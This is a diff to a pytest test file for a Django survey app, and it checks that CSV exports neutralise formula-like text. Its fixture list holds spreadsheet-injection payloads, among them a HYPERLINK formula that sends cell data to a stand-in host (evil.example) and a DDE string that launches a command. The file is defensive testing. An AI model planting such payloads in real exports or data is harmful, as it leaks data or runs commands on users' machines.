@@ -13,11 +13,20 @@ from reports.exports import jobs as export_jobs
 from reports.exports import services as export_services
 from reports.models import ExportJob
 from surveys.models import Response
+from surveys.textsafety import neutralise_csv
 from tests.conftest import logged_in
 from tests.world import World, build_world
 
 pytestmark = pytest.mark.django_db
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "x;=10*10;",
+    'baik,=HYPERLINK("http://evil.example";"klik")',
+]
 TEXT = " ".join(FORMULAS)
 DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
 
@@ -72,11 +81,17 @@ def test_the_raw_xlsx_export_keeps_formula_like_text_as_text(world: World, kecam
     assert _assert_no_formula_cells(_job(world, kecamatan_admin, "xlsx")) >= len(FORMULAS)
 
 
-def test_the_raw_csv_export_neutralises_formula_like_text(world: World, kecamatan_admin: Any) -> None:
-    rows = list(csv.reader(io.StringIO(_job(world, kecamatan_admin, "csv").decode("utf-8-sig"))))
-    cells = [cell for row in rows for cell in row if any(payload.strip() in cell for payload in FORMULAS)]
-    assert len(cells) >= len(FORMULAS)
-    assert not [cell for cell in cells if cell.startswith(DANGEROUS_START)]
+@pytest.mark.parametrize("file_format", ["csv", "csv-semicolon"])
+def test_the_raw_csv_exports_neutralise_formula_like_text(world: World, kecamatan_admin: Any, file_format: str) -> None:
+    text = _job(world, kecamatan_admin, file_format).decode("utf-8-sig")
+    own = "," if file_format == "csv" else ";"
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=own))
+    cells = [cell for row in rows for cell in row]
+    assert neutralise_csv(TEXT) in cells  # all payloads in one suggestion: one field, with the file's separator
+    assert neutralise_csv(FORMULAS[0]) in cells
+    for separator in (",", ";", "\t"):  # and however the file is split, no cell starts a formula
+        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
+        assert not [cell for cell in cells if cell.lstrip(' "').startswith(DANGEROUS_START)], separator
 
 
 def test_the_unit_workbook_and_city_recap_keep_formula_like_text_as_text(
